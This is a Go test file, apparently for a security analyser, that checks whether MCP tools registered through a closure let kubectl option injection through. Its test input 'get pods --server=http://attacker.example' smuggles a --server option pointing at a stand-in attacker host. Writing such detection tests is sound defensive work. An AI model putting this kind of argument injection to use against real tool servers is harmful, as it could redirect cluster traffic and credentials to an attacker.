package escape_test

import (
	"os"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/server"

	varclosure31 "fixtures/omcg0031/varclosure"
)

// OMCG0031 on tools declared as variables of one package and registered
// by another through a func literal it calls with each tool and its
// handler factory's result: kubectl reads "--server=…" among the command
// line's words in the flagged tool, and as a name after "--" in the
// other. Served by mcp-go over Streamable HTTP, called with the go-sdk's
// client.
func TestOptionInjectionVarClosure(t *testing.T) {
	marker := fakeKubectl(t)
	cs := connectMark(t, func(s *server.MCPServer) { varclosure31.Register(s, true) })
	const attacker = "http://attacker.example"
	for _, tc := range []struct {
		tool    string
		flagged bool
	}{
		{"kubectl_varclosure", true},
		{"kubectl_varclosure_ended", false},
	} {
		os.Remove(marker)
		call(t, cs, tc.tool, map[string]any{"command": "get pods --server=" + attacker})
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != tc.flagged {
			t.Errorf("%s: kubectl read --server= as its option: %v, want %v", tc.tool, escaped, tc.flagged)
		}
	}
}
